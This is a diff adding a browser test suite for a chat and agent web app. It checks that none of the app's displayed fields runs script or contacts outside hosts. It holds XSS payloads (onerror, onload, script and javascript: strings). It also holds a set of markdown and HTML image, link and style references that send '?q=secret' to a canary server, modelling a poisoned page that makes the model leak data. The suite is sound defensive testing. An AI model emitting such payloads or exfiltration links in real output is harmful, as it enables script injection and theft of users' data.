@@ -1,0 +1,183 @@
+/** Hostile texts in every field that the page shows, with the real program: no script runs, nothing leaves for elsewhere. */
+import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { after, before, test } from "node:test";
+import { launch, openPage, unfold } from "./browser.mjs";
+import { hostile } from "./markdown/hostile.mjs";
+import { calls, startGlasshouse, startModel, text, turn } from "./programs.mjs";
+
+/** Short ones, for fields that take a line. */
+const LINES = [
+  "<img src=x onerror=pwn()>",
+  "<svg onload=pwn()>",
+  '"><script>pwn()</script>',
+  "javascript:pwn()",
+  "${pwn()}{{pwn()}}",
+  '<iframe srcdoc="<script>parent.pwn()</script>">',
+];
+const LINE = LINES.join(" ").slice(0, 190);
+
+let browser, glasshouse, model, page, canary;
+const seen = { canary: [], elsewhere: [] };
+
+/** What a poisoned page would have the model say, so that what it knows gets out. */
+const leaks = (at) =>
+  [
+    `![a](${at}/image?q=secret)`,
+    `![b][ref]\n\n[ref]: ${at}/reference?q=secret`,
+    `<img src="${at}/html?q=secret">`,
+    `<link rel=stylesheet href="${at}/style.css"><style>@import "${at}/import.css";</style>`,
+    `<video src="${at}/video"></video><audio src="${at}/audio"></audio><object data="${at}/object"></object>`,
+    `[link](${at}/link?q=secret "t")`,
+    `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
+    `![c](https://canary.invalid/c.png)`,
+    "$\\includegraphics{" + at + "/maths.png}$",
+    "```svg\n<svg xmlns='http://www.w3.org/2000/svg'><image href='" + at + "/svg.png'/></svg>\n```",
+    "```html\n<img src='" + at + "/code.png'>\n```",
+  ].join("\n\n");
+
+before(async () => {
+  canary = createServer((request, response) => {
+    seen.canary.push(request.url);
+    response.end();
+  });
+  await new Promise((resolve) => canary.listen(0, "127.0.0.1", resolve));
+  const at = `http://127.0.0.1:${canary.address().port}`;
+  const file = { path: `/${LINES[0].replaceAll("/", "")}.md`, content: `${hostile.slice(0, 20).join("\n\n")}` };
+  const cases = [
+    {
+      contains: "Show it all",
+      turns: [
+        turn(
+          calls(
+            ["write_file", file],
+            ["write_todos", { todos: LINES.map((content) => ({ content, status: "pending" })) }],
+            ["grep", { pattern: "onerror", path: "/" }],
+            [LINES[0], { [LINES[1]]: LINES[2] }],
+          ),
+        ),
+        turn(calls(["read_file", { path: file.path }], ["ls", { path: "/" }])),
+        turn(text(`${hostile.join("\n\n")}\n\n${leaks(at)}`)),
+      ],
+    },
+    {
+      contains: "Ask",
+      turns: [
+        turn(calls(["ask_user", { question: LINE, options: LINES.slice(0, 4) }])),
+        turn(text("Thank you.")),
+      ],
+    },
+    { turns: [turn(text("Hello."))] },
+  ];
+  [browser, glasshouse, model] = await Promise.all([launch(), startGlasshouse(), startModel(cases)]);
+  page = await openPage(browser, { url: glasshouse.url });
+  await page.addInitScript(() => {
+    globalThis.pwn = () => (document.documentElement.dataset.pwned = "yes");
+  });
+  page.on("dialog", (dialog) => {
+    seen.elsewhere.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on("request", (request) => {
+    const url = new URL(request.url());
+    const own = url.origin === glasshouse.url || ["data:", "blob:"].includes(url.protocol);
+    if (!own) seen.elsewhere.push(request.url());
+  });
+});
+after(async () => {
+  await browser?.close();
+  await Promise.all([glasshouse?.stop(), model?.stop()]);
+  canary?.close();
+});
+
+/** Nothing has run, and nobody else has heard of it. */
+async function unharmed() {
+  // What loads or runs late does so in these frames.
+  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 300))));
+  assert.equal(await page.evaluate(() => document.documentElement.dataset.pwned ?? "no"), "no", page.url());
+  assert.deepEqual(seen, { canary: [], elsewhere: [] }, page.url());
+}
+
+const call = (method, path, body) =>
+  page.evaluate(
+    async ([method, path, body]) => {
+      const response = await fetch(path, { method, body: typeof body === "string" ? body : JSON.stringify(body) });
+      if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
+      return response.status === 204 ? undefined : response.json();
+    },
+    [method, path, body],
+  );
+const say = async (words) => {
+  await page.getByRole("textbox", { name: "Message" }).fill(words);
+  await page.keyboard.press("Enter");
+};
+
+test("names, titles and texts of people", async () => {
+  await page.goto("/");
+  await page.waitForURL("**/setup");
+  await page.getByLabel("Name").fill(LINES[0]);
+  await page.getByLabel("Email").fill("ada@example.org");
+  await page.getByLabel("Password").fill("correct horse");
+  await page.getByRole("button", { name: "Create account" }).click();
+  await page.waitForURL("**/welcome");
+  await call("POST", "/api/v1/connections", { name: LINES[1], base_url: model.url });
+  await call("PUT", "/api/v1/settings/default-model", { model: "scripted" });
+  await call("POST", "/api/v1/keys", { name: LINES[2] });
+  await call("POST", "/api/v1/memories", { name: LINES[0], text: hostile.slice(0, 30).join("\n"), description: LINES[1] });
+  await call("POST", "/api/v1/schedules", { name: LINE, prompt: LINE, cron: "0 9 * * *", time_zone: "UTC" });
+  const chat = await call("POST", "/api/v1/chats", { title: LINE });
+  for (const name of ["<img src=x onerror=pwn()>.svg", "a.html", "b.svg"]) {
+    const path = encodeURIComponent(`/${name}`);
+    const content = "<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'><script>pwn()</script></svg>";
+    await call("PUT", `/api/v1/chats/${chat.id}/files/content?path=${path}`, content);
+  }
+  await page.goto(`/chat/${chat.id}`);
+  await page.getByRole("textbox", { name: "Message" }).waitFor();
+  await unharmed();
+});
+
+test("what a model says, its calls and what they give", async () => {
+  await say(`Show it all ${hostile.slice(0, 10).join(" ")}`);
+  await page.getByRole("button", { name: "Regenerate" }).last().waitFor({ timeout: 60_000 });
+  await unfold(page.getByRole("button", { name: /Execution steps/ }).last());
+  for (const fold of await page.locator("article.assistant button[aria-expanded=false]").all()) {
+    await fold.press("Enter").catch(() => {});
+  }
+  await unharmed();
+  await page.reload();
+  await page.getByRole("button", { name: "Regenerate" }).last().waitFor();
+  await unharmed();
+});
+
+test("what an agent asks, in the chat and in the inbox", async () => {
+  await say("Ask");
+  await page.getByRole("region", { name: /asks$/ }).waitFor();
+  await unharmed();
+  await page.goto("/inbox");
+  await page.getByText("onerror=pwn()").first().waitFor();
+  await unharmed();
+});
+
+test("every page of the settings", async () => {
+  await page.goto("/settings");
+  await page.getByRole("navigation").first().waitFor();
+  const links = await page.locator('a[href^="/settings"]').evaluateAll((all) => all.map((a) => a.getAttribute("href")));
+  for (const link of new Set(links)) {
+    await page.goto(link);
+    await page.getByRole("heading").first().waitFor();
+    await unharmed();
+  }
+  assert.ok(new Set(links).size >= 4, `only ${links}`);
+});
+
+test("a file that is a page is saved and not shown", async () => {
+  const chats = await call("GET", "/api/v1/chats?limit=1");
+  const at = `/api/v1/chats/${chats.chats[0].id}/files/content?path=`;
+  for (const name of ["a.html", "b.svg"]) {
+    const headers = await page.evaluate(async (at) => Object.fromEntries((await fetch(at)).headers), `${at}/${name}`);
+    assert.match(headers["content-disposition"], /^attachment/);
+    assert.equal(headers["x-content-type-options"], "nosniff");
+    assert.equal(headers["content-type"], "application/octet-stream");
+  }
+  await unharmed();
+});
